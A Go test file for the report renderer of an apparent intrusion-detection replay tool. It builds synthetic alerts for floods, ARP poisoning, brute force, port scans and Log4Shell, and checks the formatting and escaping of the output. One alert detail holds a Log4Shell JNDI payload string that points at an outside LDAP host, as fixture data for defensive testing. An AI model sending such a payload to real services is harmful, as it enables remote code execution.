package report

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/ipsreplay/ipsreplay/analyzer"
	"github.com/ipsreplay/ipsreplay/packet"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// at is a packet time on the day the rich capture was taken.
func at(hms string) analyzer.Time {
	t, err := time.Parse(time.RFC3339Nano, "2024-03-05T"+hms+"Z")
	if err != nil {
		panic(err)
	}
	return analyzer.TimeOf(t)
}

func loc(file string, n uint64) analyzer.PacketLocation {
	return analyzer.PacketLocation{File: file, Packet: n}
}

const (
	day1 = "captures/day1.pcap"
	day2 = "captures/day2.pcapng"
	wifi = "captures/wifi.pcap.gz"
)

// richResult exercises every section: several signatures (one naming a
// CVE, one with capped host lists), a spoofed flood, an alert whose detail
// carries control characters, blocked hosts, two false positives, a
// truncated file, decode errors, evictions and warnings. One time is in a
// non-UTC zone to check it is rendered in UTC. It returns a fresh value
// each call so tests can check the renderers leave it alone.
func richResult() *analyzer.Result {
	cet := time.FixedZone("CET", 3600)
	return &analyzer.Result{
		Schema: analyzer.SchemaVersion,
		Summary: analyzer.Summary{
			Files:     3,
			Packets:   48213,
			Bytes:     31457893,
			FirstTime: at("09:58:01.123456789"),
			LastTime:  at("10:41:17.5"),
			Span:      packet.Duration(at("10:41:17.5").Sub(at("09:58:01.123456789").Time)),
			Undecoded: 19,
			DecodeErrors: []analyzer.ReasonCount{
				{Reason: "truncated tcp header", Count: 12},
				{Reason: "unsupported link type 105", Count: 7},
			},
			Evictions: []analyzer.ReasonCount{
				{Reason: "half-open TCP connections", Count: 1204},
				{Reason: "portscan state", Count: 17},
			},
			Autoblock: packet.Duration(10 * time.Minute),
			Exclusions: []analyzer.ExclusionUse{
				{Entry: "10.0.0.99", Where: "exclude.txt:2", Kind: "host", Alerts: 3},
				{Entry: "suppress gen_id 1, sig_id 9100001, track by_src, ip [10.0.0.0/8, !10.0.0.66]", Where: "exclude.txt:3", Kind: "suppress", Alerts: 1204},
				{Entry: "192.168.57.0/24", Where: "exclude.txt:5", Kind: "host", Alerts: 0},
				{Entry: "08:00:27:4e:aa:02", Where: "exclude.txt:6", Kind: "host", Alerts: 0},
			},
		},
		Files: []analyzer.FileSummary{
			{Path: day1, Format: "pcap", LinkTypes: []string{"ethernet"}, Packets: 30000, Bytes: 21000000,
				First: at("09:58:01.123456789"), Last: at("10:20:00")},
			{Path: day2, Format: "pcapng", LinkTypes: []string{"ethernet", "raw"}, Packets: 17401, Bytes: 10393456,
				First: at("10:20:00.5"), Last: at("10:41:17.5")},
			{Path: wifi, Format: "pcap.gz", LinkTypes: []string{"ieee802_11_radio"}, Packets: 812, Bytes: 64437,
				First: at("10:00:00"), Last: at("10:05:00"),
				Error: "packet 813 at offset 1048560: unexpected EOF", Truncated: true},
		},
		Signatures: []analyzer.SignatureHit{
			{SID: 9000001, Name: "Attack: TCP SYN Flood", Severity: "high", Category: "denial-of-service",
				Description: "Many TCP SYNs to one service without completed handshakes.",
				Count:       2, First: at("10:02:00.25"), Last: at("10:09:30"),
				FirstPacket: loc(day1, 5120), LastPacket: loc(day1, 9874),
				Attackers: testHosts("2001:db8::bad", "(spoofed sources)"), Victims: testHosts("10.0.0.10", "2001:db8::10")},
			{SID: 9000003, Name: "Attack: ARP Cache Poisoning", Severity: "high", Category: "spoofing",
				Description: "ARP traffic that rebinds an IP address to another MAC address.",
				Count:       1, First: at("10:12:44.001"), Last: at("10:12:44.001"),
				FirstPacket: loc(day1, 20011), LastPacket: loc(day1, 20011),
				Attackers: testHosts("10.0.0.66"), Victims: testHosts("10.0.0.1")},
			{SID: 9000004, Name: "Attack: Brute Force Remote Login", Severity: "high", Category: "credential-access",
				Description: "Many failed or short login attempts from one source.",
				Count:       2, First: at("10:14:03"), Last: at("10:31:40"),
				FirstPacket: loc(day1, 24100), LastPacket: loc(day2, 7002),
				Attackers: testHosts("10.0.0.66"), Victims: testHosts("10.0.0.20", "10.0.0.21")},
			{SID: 1000042, Name: "Exploit: Log4j JNDI lookup (Log4Shell)", Severity: "high", Category: "exploit",
				Description: "A ${jndi:...} lookup string in an HTTP request.",
				CVEs:        []string{"CVE-2021-44228", "CVE-2021-45046"}, Advice: "patch the affected application first",
				Count: 1, First: at("10:33:05.75"), Last: at("10:33:05.75"),
				FirstPacket: loc(day2, 8190), LastPacket: loc(day2, 8190),
				Attackers: testHosts("203.0.113.7"), Victims: testHosts("10.0.0.30")},
			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Category: "reconnaissance",
				Description: "One source probing many ports or hosts.",
				Count:       3, First: at("09:59:00"), Last: analyzer.TimeOf(at("10:40:00").In(cet)),
				FirstPacket: loc(day1, 310), LastPacket: loc(day2, 16990),
				Attackers: testHosts("10.0.0.50", "192.168.56.101"),
				Victims: testHosts("10.0.0.1", "10.0.0.10", "10.0.0.20", "10.0.0.21", "10.0.0.30",
					"10.0.0.31", "10.0.0.32", "10.0.0.33", "10.0.0.34", "10.0.0.35", "10.0.0.36", "10.0.0.37",
					"10.0.0.38", "10.0.0.39", "10.0.0.40"),
				MoreVictims: true},
		},
		Alerts: []analyzer.Alert{
			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Time: at("09:59:00"),
				Attacker: netip.MustParseAddr("10.0.0.50"), Victim: analyzer.MustParseHost("10.0.0.0/24"), Proto: "TCP", Kind: "sweep",
				Detail: "254 hosts on port 22 in 12s", Count: 254, First: at("09:59:00"), Last: at("09:59:12"),
				FirstPacket: loc(day1, 310), LastPacket: loc(day1, 822)},
			{SID: 9000001, Name: "Attack: TCP SYN Flood", Severity: "high", Time: at("10:02:00.25"),
				Victim: analyzer.MustParseHost("10.0.0.10"), VictimPort: 443, Proto: "TCP", Kind: "spoofed",
				Detail: "4,812 SYNs from 3,977 sources, 0.3% completed", Count: 4812,
				First: at("10:02:00.25"), Last: at("10:02:05"),
				FirstPacket: loc(day1, 5120), LastPacket: loc(day1, 9931),
				Spoofed: true, Sources: testAddrs("198.51.100.4", "198.51.100.77", "203.0.113.200", "192.0.2.19")},
			{SID: 9000001, Name: "Attack: TCP SYN Flood", Severity: "high", Time: at("10:09:30"),
				Attacker: netip.MustParseAddr("2001:db8::bad"), Victim: analyzer.MustParseHost("2001:db8::10"), VictimPort: 80, Proto: "TCP", Kind: "single-source",
				Detail: "900 SYNs in 5s, 0 completed", Count: 900,
				First: at("10:09:30"), Last: at("10:09:35"),
				FirstPacket: loc(day1, 9874), LastPacket: loc(day1, 10774), Blocked: true},
			{SID: 9000003, Name: "Attack: ARP Cache Poisoning", Severity: "high", Time: at("10:12:44.001"),
				Attacker: netip.MustParseAddr("10.0.0.66"), AttackerMAC: testMAC("02:42:ac:11:00:66"), Victim: analyzer.MustParseHost("10.0.0.1"), Proto: "ARP",
				Kind: "gateway-claim", Detail: "10.0.0.1 rebound from 00:11:22:33:44:55 to 02:42:ac:11:00:66",
				Count: 1, First: at("10:12:44.001"), Last: at("10:12:44.001"),
				FirstPacket: loc(day1, 20011), LastPacket: loc(day1, 20011), Blocked: true,
				ARP: &analyzer.ARPPacket{SenderIP: netip.MustParseAddr("10.0.0.1"), TargetIP: netip.MustParseAddr("10.0.0.20"), SrcMAC: testMAC("02:42:ac:11:00:66"), DestMAC: testMAC("00:16:3e:00:00:20")}},
			{SID: 9000004, Name: "Attack: Brute Force Remote Login", Severity: "high", Time: at("10:14:03"),
				Attacker: netip.MustParseAddr("10.0.0.66"), Victim: analyzer.MustParseHost("10.0.0.20"), VictimPort: 22, Proto: "TCP", Kind: "ssh",
				Detail: "31 short connections in 60s", Count: 31, First: at("10:13:03"), Last: at("10:14:03"),
				FirstPacket: loc(day1, 23050), LastPacket: loc(day1, 24100), Blocked: true},
			{SID: 9000004, Name: "Attack: Brute Force Remote Login", Severity: "high", Time: at("10:31:40"),
				Attacker: netip.MustParseAddr("10.0.0.66"), Victim: analyzer.MustParseHost("10.0.0.21"), VictimPort: 21, Proto: "TCP", Kind: "ftp",
				Detail: "USER \x1b[31mroot\x1b[0m\r\n: 40 failed logins in 2m0s, last from a client banner that is far too long to show",
				Count:  40, First: at("10:29:40"), Last: at("10:31:40"),
				FirstPacket: loc(day1, 29990), LastPacket: loc(day2, 7002), Blocked: true},
			{SID: 1000042, Name: "Exploit: Log4j JNDI lookup (Log4Shell)", Severity: "high", Time: at("10:33:05.75"),
				Attacker: netip.MustParseAddr("203.0.113.7"), Victim: analyzer.MustParseHost("10.0.0.30"), VictimPort: 8080, Proto: "TCP",
				Detail: "GET /?x=${jndi:ldap://203.0.113.7/a}", Count: 1,
				First: at("10:33:05.75"), Last: at("10:33:05.75"),
				FirstPacket: loc(day2, 8190), LastPacket: loc(day2, 8190), Blocked: true},
			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Time: at("10:38:12"),
				Attacker: netip.MustParseAddr("192.168.56.101"), AttackerMAC: testMAC("08:00:27:4e:aa:01"), Victim: analyzer.MustParseHost("10.0.0.255"), Proto: "UDP",
				Kind: "sweep", Detail: "NetBIOS/mDNS discovery to 41 hosts", Count: 41,
				First: at("10:37:50"), Last: at("10:38:12"),
				FirstPacket: loc(day2, 15001), LastPacket: loc(day2, 15410)},
			{SID: 9000002, Name: "Attack: Port Scan", Severity: "medium", Time: analyzer.TimeOf(at("10:40:00").In(cet)),
				Attacker: netip.MustParseAddr("203.0.113.7"), Victim: analyzer.MustParseHost("10.0.0.30"), Proto: "TCP", Kind: "vertical",
				Detail: "1,000 ports in 4s", Count: 1000, First: at("10:39:56"), Last: at("10:40:00"),
				FirstPacket: loc(day2, 15990), LastPacket: loc(day2, 16990)},
		},
		Blocks: []analyzer.BlockedHost{
			{Host: analyzer.MustParseHost("10.0.0.66"), FirstBlock: at("10:12:44.001"), LastUnblock: at("10:41:40"),
				Blocks: 2, Extensions: 1, TotalBlocked: packet.Duration(21*time.Minute + 2*time.Second),
				DroppedPackets: 1893, DroppedBytes: 402118, SIDs: []uint32{9000003, 9000004}},
			{Host: analyzer.MustParseHost("203.0.113.7"), FirstBlock: at("10:33:05.75"), LastUnblock: at("10:43:05.75"),
				Blocks: 1, Extensions: 0, TotalBlocked: packet.Duration(10 * time.Minute),
				DroppedPackets: 1001, DroppedBytes: 60060, SIDs: []uint32{1000042}},
			{Host: analyzer.MustParseHost("2001:db8::bad"), FirstBlock: at("10:09:30"), LastUnblock: at("10:19:30"),
				Blocks: 1, TotalBlocked: packet.Duration(10 * time.Minute),
				DroppedPackets: 0, DroppedBytes: 0, SIDs: []uint32{9000001}},
		},
		FalsePositives: []analyzer.FalsePositive{
			{Host: analyzer.MustParseHost("10.0.0.50"), MAC: testMAC("00:50:56:01:02:03"), Verdict: "scanner", Confidence: "high",
				Reason: "internal host probing many hosts and ports, as vulnerability scanners do",
				Evidence: []string{
					"internal address 10.0.0.50",
					"1 sweep alerts (sweep)",
					"swept ports 22",
					"254 probes in all; no flooding or ARP poisoning",
				},
				Alerts: 1, Exclusion: "10.0.0.50 # internal scanner: 1 alerts"},
			{Host: analyzer.MustParseHost("192.168.56.101"), MAC: testMAC("08:00:27:4e:aa:01"), Verdict: "guest-vm", Confidence: "medium",
				Reason: "VirtualBox guest VM bridged on the LAN: its address moved between virtual NICs",
				Evidence: []string{
					"MAC 08:00:27:4e:aa:01 has a VirtualBox OUI (08:00:27)",
					"ARP alerts only of kinds a re-created or bridged VM causes: gratuitous",
					"also fired 1 other signature kinds",
				},
				Alerts: 2, Exclusion: "08:00:27:4e:aa:01 # guest VM (VirtualBox), 192.168.56.101"},
		},
		Investigate: []analyzer.Investigation{
			{Host: analyzer.MustParseHost("10.0.0.66"), MAC: testMAC("3c:97:0e:aa:bb:cc"),
				Reason: "internal host that poisons ARP caches: scanners probe, they do not flood or poison ARP caches; an attacker or a compromised host",
				Evidence: []string{
					"claimed the gateway 10.0.0.1 for 3c:97:0e:aa:bb:cc (14 claims)",
					"8 failed ssh logins against 10.0.0.22:22",
				},
				Alerts: 2, SIDs: []uint32{9000003, 9000004}},
			{Host: analyzer.MustParseHost("203.0.113.7"),
				Reason:   "outside address: never presumed benign; a real attacker or a compromised host",
				Evidence: []string{"outside address 203.0.113.7", "vertical port scan of 1 host (10.0.0.30)"},
				Alerts:   2, SIDs: []uint32{1000042, 9000002}},
		},
		Warnings: []string{
			"captures/wifi.pcap.gz: packet 813 at offset 1048560: unexpected EOF; 812 packets analysed",
			"7 packets with link type 105 (ieee802_11) skipped: no decoder",
			"half-open TCP connections: 1204 entries evicted at the table cap; detections may be undercounted (raise the cap with --set)",
			"portscan state: 17 entries evicted at the table cap; detections may be undercounted (raise the cap with --set)",
		},
	}
}

// emptyResult is what a run over an empty capture could give: a summary and
// nothing else. Its slices are nil, as a hand-built or zero Result's are.
func emptyResult() *analyzer.Result {
	return &analyzer.Result{
		Summary: analyzer.Summary{Files: 1, Autoblock: packet.Duration(10 * time.Minute)},
		Files:   []analyzer.FileSummary{{Path: "empty.pcap", Format: "pcap"}},
	}
}

var cases = []struct {
	name   string
	result func() *analyzer.Result
}{
	{"rich", richResult},
	{"empty", emptyResult},
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the output (go test ./report -update rewrites it)\n--- got ---\n%s\n--- want ---\n%s", path, got, want)
	}
}

func TestGolden(t *testing.T) {
	for _, c := range cases {
		for _, f := range Formats(Report) {
			t.Run(c.name+"/"+string(f), func(t *testing.T) {
				r := c.result()
				var buf bytes.Buffer
				if err := Write(&buf, r, f); err != nil {
					t.Fatal(err)
				}
				golden(t, c.name+"."+string(f)+".golden", buf.Bytes())

				// The caller's Result is untouched.
				if !reflect.DeepEqual(r, c.result()) {
					t.Error("Write modified the Result")
				}
				// Same Result, same bytes.
				var again bytes.Buffer
				if err := Write(&again, c.result(), f); err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(buf.Bytes(), again.Bytes()) {
					t.Error("two renderings of the same Result differ")
				}
			})
		}
	}
}

// TestConcurrentWrites renders from several goroutines at once: tablewriter
// keeps package-level width caches, and -race should find any sharing.
func TestConcurrentWrites(t *testing.T) {
	var want bytes.Buffer
	if err := WriteTable(&want, richResult()); err != nil {
		t.Fatal(err)
	}
	r := richResult()
	errs := make(chan error, 8)
	for range 8 {
		go func() {
			var buf bytes.Buffer
			err := WriteTable(&buf, r)
			if err == nil && !bytes.Equal(buf.Bytes(), want.Bytes()) {
				err = errors.New("concurrent rendering differs")
			}
			if err == nil {
				err = WriteJSON(io.Discard, r)
			}
			errs <- err
		}()
	}
	for range 8 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

func TestTableIsPlainASCII(t *testing.T) {
	for _, c := range cases {
		var buf bytes.Buffer
		if err := WriteTable(&buf, c.result()); err != nil {
			t.Fatal(err)
		}
		for i, ch := range buf.Bytes() {
			if ch != '\n' && (ch < 0x20 || ch > 0x7e) {
				t.Fatalf("%s: byte %d is %#x, want printable ASCII or newline", c.name, i, ch)
			}
		}
		for n, l := range strings.Split(buf.String(), "\n") {
			if strings.TrimRight(l, " ") != l {
				// Not wrong, but worth knowing if tablewriter starts doing it.
				t.Logf("%s: line %d has trailing spaces", c.name, n+1)
			}
		}
	}
}

func TestTableAlertCap(t *testing.T) {
	r := richResult()
	base := r.Alerts[6]
	r.Alerts = nil
	for i := range MaxAlertRows + 7 {
		a := base
		a.Time = analyzer.TimeOf(a.Time.Add(time.Duration(i) * time.Second))
		a.Detail = fmt.Sprintf("alert %d", i)
		r.Alerts = append(r.Alerts, a)
	}
	var buf bytes.Buffer
	if err := WriteTable(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, fmt.Sprintf("| alert %d ", MaxAlertRows-1)) {
		t.Errorf("last shown alert missing")
	}
	if strings.Contains(out, fmt.Sprintf("| alert %d ", MaxAlertRows)) {
		t.Errorf("alert past the cap shown")
	}
	if !strings.Contains(out, "\n... 7 more alerts (see --format json)\n") {
		t.Errorf("no 7-more line in:\n%s", out)
	}
}

func TestTableAutoblockDisabled(t *testing.T) {
	r := emptyResult()
	r.Summary.Autoblock = 0
	var buf bytes.Buffer
	if err := WriteTable(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, "\nAutoblock disabled.\n") {
		t.Errorf("want Autoblock disabled. in:\n%s", out)
	}
	if strings.Contains(out, "No hosts would have been blocked.") {
		t.Errorf("disabled autoblock also says no hosts were blocked")
	}
}

// normalized is what r should read back as from the JSON report: the
// document jsonDoc makes (schema filled, nil slices empty), with alert
// sources the other way round (omitempty) and times in UTC.
func normalized(r *analyzer.Result) analyzer.Result {
	n := jsonDoc(r)
	s := &n.Summary
	s.FirstTime, s.LastTime = utcTime(s.FirstTime), utcTime(s.LastTime)
	for i := range n.Files {
		f := &n.Files[i]
		f.First, f.Last = utcTime(f.First), utcTime(f.Last)
	}
	for i := range n.Signatures {
		h := &n.Signatures[i]
		h.First, h.Last = utcTime(h.First), utcTime(h.Last)
	}
	normAlert := func(a *analyzer.Alert) {
		if len(a.Sources) == 0 {
			a.Sources = nil
		}
		a.Time, a.First, a.Last = utcTime(a.Time), utcTime(a.First), utcTime(a.Last)
	}
	n.Alerts = append([]analyzer.Alert{}, n.Alerts...)
	for i := range n.Alerts {
		normAlert(&n.Alerts[i])
	}
	n.Events = append([]analyzer.Event{}, n.Events...)
	for i := range n.Events {
		ev := &n.Events[i]
		ev.Time, ev.Until = utcTime(ev.Time), utcTime(ev.Until)
		if ev.Alert != nil {
			a := *ev.Alert
			normAlert(&a)
			ev.Alert = &a
		}
	}
	for i := range n.Blocks {
		b := &n.Blocks[i]
		b.FirstBlock, b.LastUnblock = utcTime(b.FirstBlock), utcTime(b.LastUnblock)
	}
	return n
}

func TestJSONRoundTrip(t *testing.T) {
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteJSON(&buf, c.result()); err != nil {
				t.Fatal(err)
			}
			var got analyzer.Result
			dec := json.NewDecoder(&buf)
			dec.DisallowUnknownFields()
			if err := dec.Decode(&got); err != nil {
				t.Fatal(err)
			}
			want := normalized(c.result())
			if !reflect.DeepEqual(got, want) {
				g, _ := json.MarshalIndent(got, "", "  ")
				w, _ := json.MarshalIndent(want, "", "  ")
				t.Errorf("round trip differs\n--- got ---\n%s\n--- want ---\n%s", g, w)
			}
		})
	}
}

func TestJSONNilSlicesAndZeroTimes(t *testing.T) {
	r := &analyzer.Result{
		Files:          []analyzer.FileSummary{{Path: "a.pcap"}},
		Signatures:     []analyzer.SignatureHit{{SID: 1}},
		Alerts:         []analyzer.Alert{{SID: 1, Sources: testAddrs()}},
		Blocks:         []analyzer.BlockedHost{{Host: analyzer.MustParseHost("10.0.0.1")}},
		FalsePositives: []analyzer.FalsePositive{{Host: analyzer.MustParseHost("10.0.0.2")}},
	}
	var buf bytes.Buffer
	if err := WriteJSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	first := func(key string) map[string]any { return doc[key].([]any)[0].(map[string]any) }
	summary := doc["summary"].(map[string]any)
	wantEmpty := []struct {
		where string
		obj   map[string]any
		keys  []string
	}{
		{"result", doc, []string{"files", "signatures", "alerts", "blocks", "false_positives", "warnings"}},
		{"summary", summary, []string{"decode_errors", "evictions", "exclusions"}},
		{"file", first("files"), []string{"link_types"}},
		{"signature", first("signatures"), []string{"cves", "attackers", "victims"}},
		{"block", first("blocks"), []string{"sids"}},
		{"false positive", first("false_positives"), []string{"evidence"}},
	}
	for _, w := range wantEmpty {
		for _, k := range w.keys {
			v, ok := w.obj[k].([]any)
			if !ok || v == nil {
				t.Errorf("%s.%s = %#v, want []", w.where, k, w.obj[k])
			}
		}
	}
	wantNull := []struct {
		where string
		obj   map[string]any
		keys  []string
	}{
		{"summary", summary, []string{"first_time", "last_time"}},
		{"file", first("files"), []string{"first_time", "last_time"}},
		{"signature", first("signatures"), []string{"first", "last"}},
		{"alert", first("alerts"), []string{"time", "first", "last"}},
		{"block", first("blocks"), []string{"first_block", "last_unblock"}},
	}
	for _, w := range wantNull {
		for _, k := range w.keys {
			if v, ok := w.obj[k]; !ok || v != nil {
				t.Errorf("%s.%s = %#v (present %v), want null", w.where, k, v, ok)
			}
		}
	}
	if _, ok := first("alerts")["sources"]; ok {
		t.Errorf("empty alert.sources rendered, want it omitted")
	}
	if doc["schema"] != analyzer.SchemaVersion {
		t.Errorf("schema = %v, want %s", doc["schema"], analyzer.SchemaVersion)
	}
	if r.Files[0].LinkTypes != nil || r.Signatures[0].CVEs != nil || r.Warnings != nil || r.Schema != "" {
		t.Error("WriteJSON modified the Result")
	}
}

// TestFarTimes: a time past year 9999 (a 64-bit pcapng timestamp) is
// rendered by every format, as an ISO 8601 expanded year, and reads back.
func TestFarTimes(t *testing.T) {
	far := time.Date(12000, 1, 1, 0, 0, 0, 0, time.UTC)
	r := emptyResult()
	r.Summary.FirstTime = analyzer.TimeOf(time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC))
	r.Summary.LastTime = analyzer.TimeOf(far)
	r.Files = []analyzer.FileSummary{{Path: "far.pcapng", Packets: 2, First: r.Summary.FirstTime, Last: analyzer.TimeOf(far)}}
	for _, f := range []Format{FormatTable, FormatJSON, FormatEVE} {
		t.Run(string(f), func(t *testing.T) {
			var buf bytes.Buffer
			if err := Write(&buf, r, f); err != nil {
				t.Fatalf("Write: %v", err)
			}
			if f != FormatEVE && !strings.Contains(buf.String(), "+12000-01-01T00:00:00.000") {
				t.Errorf("no +12000 time:\n%s", buf.String())
			}
			if strings.Contains(buf.String(), "1969") {
				t.Errorf("a 1969 date:\n%s", buf.String())
			}
			if f == FormatJSON {
				var back analyzer.Result
				if err := json.Unmarshal(buf.Bytes(), &back); err != nil || !back.Summary.LastTime.Equal(far) {
					t.Errorf("read back %v, %v; want %v", back.Summary.LastTime, err, far)
				}
			}
		})
	}
}

// TestJSONDocFillsEverySlice keeps jsonDoc in step with analyzer.Result: a
// Result whose every struct appears once with every slice nil must come
// out with no nil slice but the omitempty ones, so a slice field added to
// the Result fails here until jsonDoc makes it render as [].
func TestJSONDocFillsEverySlice(t *testing.T) {
	var fill func(v reflect.Value)
	fill = func(v reflect.Value) {
		for i := range v.NumField() {
			f := v.Field(i)
			if f.Kind() == reflect.Slice && f.Type().Elem().Kind() == reflect.Struct && v.Type().Field(i).IsExported() {
				f.Set(reflect.MakeSlice(f.Type(), 1, 1))
				if f.Type().Elem().PkgPath() == reflect.TypeFor[analyzer.Result]().PkgPath() {
					fill(f.Index(0))
				}
			} else if f.Kind() == reflect.Struct && f.Type().PkgPath() == reflect.TypeFor[analyzer.Result]().PkgPath() {
				fill(f)
			}
		}
	}
	var r analyzer.Result
	fill(reflect.ValueOf(&r).Elem())
	var check func(path string, v reflect.Value)
	check = func(path string, v reflect.Value) {
		for i := range v.NumField() {
			sf, f := v.Type().Field(i), v.Field(i)
			name := path + "." + sf.Name
			switch {
			case f.Kind() == reflect.Slice:
				if f.IsNil() && !strings.Contains(sf.Tag.Get("json"), "omitempty") {
					t.Errorf("%s is nil: it would render as null", name)
				}
				for j := range f.Len() {
					if f.Index(j).Kind() == reflect.Struct {
						check(name, f.Index(j))
					}
				}
			case f.Kind() == reflect.Struct && f.Type().PkgPath() == reflect.TypeFor[analyzer.Result]().PkgPath():
				check(name, f)
			}
		}
	}
	check("Result", reflect.ValueOf(jsonDoc(&r)))
}

func TestParseFormat(t *testing.T) {
	tests := []struct {
		in   string
		want Format
		err  bool
	}{
		{"table", FormatTable, false},
		{"json", FormatJSON, false},
		{"JSON", FormatJSON, false},
		{" table ", FormatTable, false},
		{"", "", true},
		{"yaml", "", true},
		{"eve", FormatEVE, false},
		{" EVE", FormatEVE, false},
		{"HTML", FormatHTML, false},
	}
	for _, tt := range tests {
		got, err := ParseFormat(tt.in)
		if (err != nil) != tt.err || got != tt.want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q, error %v", tt.in, got, err, tt.want, tt.err)
		}
		if err != nil && !strings.Contains(err.Error(), "table, json, eve or html") {
			t.Errorf("ParseFormat(%q) error %q does not list the valid formats", tt.in, err)
		}
	}
}

func TestWriteErrors(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, richResult(), Format("xml")); err == nil || !strings.Contains(err.Error(), "table, json, eve or html") {
		t.Errorf("unknown format: got %v", err)
	}
	for _, f := range Formats(Report) {
		if err := Write(&buf, nil, f); !errors.Is(err, errNilResult) {
			t.Errorf("%s of nil: got %v, want errNilResult", f, err)
		}
	}
	if buf.Len() != 0 {
		t.Errorf("failed writes wrote %q", buf.String())
	}
	werr := errors.New("disk full")
	for _, f := range Formats(Report) {
		if err := Write(failWriter{werr}, richResult(), f); !errors.Is(err, werr) {
			t.Errorf("%s to a failing writer: got %v", f, err)
		}
	}
}

type failWriter struct{ err error }

func (w failWriter) Write([]byte) (int, error) { return 0, w.err }

func TestHelpers(t *testing.T) {
	for _, tt := range []struct {
		got, want string
	}{
		{clean("plain"), "plain"},
		{clean("a\x1b[31mb\r\n\tc\x7f"), `a\x1b[31mb\r\n\tc\x7f`},
		{clean("Z\u00fcrich \U0001F600 \xff"), `Z\u00fcrich \U0001f600 \xff`},
		{truncate("abcdefghij", 8), "abcde..."},
		{truncate("abcdefgh", 8), "abcdefgh"},
		{commas(0), "0"},
		{commas(999), "999"},
		{commas(1000), "1,000"},
		{commas(31457893), "31,457,893"},
		{commas(18446744073709551615), "18,446,744,073,709,551,615"},
		{humanBytes(0), "0 B"},
		{humanBytes(999), "999 B"},
		{humanBytes(1000), "1.0 kB"},
		{humanBytes(999949), "999.9 kB"},
		{humanBytes(999950), "1.0 MB"},
		{humanBytes(1234567), "1.2 MB"},
		{humanBytes(18446744073709551615), "18.4 EB"},
		{bytesExact(512), "512 B"},
		{bytesExact(1234567), "1.2 MB (1,234,567 bytes)"},
		{hostList([]analyzer.Host(nil), 3, false), "-"},
		{hostList(names("a", "b"), 3, false), "a, b"},
		{hostList(names("a", "b", "c", "d", "e"), 3, false), "a, b, c +2 more"},
		{hostList(names("a", "b", "c", "d"), 3, true), "a, b, c +1 more and others"},
		{hostList(names("a"), 3, true), "a and others"},
		{packetRange(loc("a", 1), loc("a", 1)), "a#1"},
		{packetRange(loc("a", 1), loc("a", 9)), "a#1..#9"},
		{packetRange(loc("a", 1), loc("b", 2)), "a#1..b#2"},
		{packetRange(loc("", 0), loc("", 0)), "-"},
		{endpoint(analyzer.MustParseHost("10.0.0.1"), 80, "tcp"), "10.0.0.1:80/tcp"},
		{endpoint(analyzer.MustParseHost("2001:db8::1"), 443, ""), "[2001:db8::1]:443"},
		{endpoint(analyzer.MustParseHost("10.0.0.1"), 0, "icmp"), "10.0.0.1 (icmp)"},
		{endpoint(analyzer.Host{}, 0, ""), "-"},
		{duration(packet.Duration(43*time.Minute + 16376543211)), "43m16.377s"},
		{duration(packet.Duration(1500)), "1.5us"},
		{duration(0), "0s"},
		{tableTime(analyzer.Time{}), "-"},
	} {
		if tt.got != tt.want {
			t.Errorf("got %q, want %q", tt.got, tt.want)
		}
	}
}

// utcTime is t in UTC, as the JSON report reads back.
func utcTime(t analyzer.Time) analyzer.Time { return analyzer.TimeOf(t.UTC()) }

// name is a host list entry for hostList's tests.
type name string

func (n name) String() string { return string(n) }

func names(ns ...name) []name { return ns }

func TestEscapeStyles(t *testing.T) {
	in := "a\"\\\a\t\n\x1b\x7f\xff\u00e9\U0001F600"
	tests := []struct {
		style escapeStyle
		want  string
	}{
		{escapeTable, `a"\\x07\t\n\x1b\x7f\xff\u00e9\U0001f600`},
		{escapeLine, `a"\\a\t\n\x1b\x7f\xff\u00e9\U0001f600`},
		{escapeQuoted, `a\"\\\a\t\n\x1b\x7f\xff\u00e9\U0001f600`},
	}
	for _, tt := range tests {
		if got := escape(in, tt.style); got != tt.want {
			t.Errorf("style %d: got %s, want %s", tt.style, got, tt.want)
		}
		if got := escape("printable \"as is\" \\", tt.style); got != "printable \"as is\" \\" {
			t.Errorf("style %d changed printable text: %s", tt.style, got)
		}
	}
}
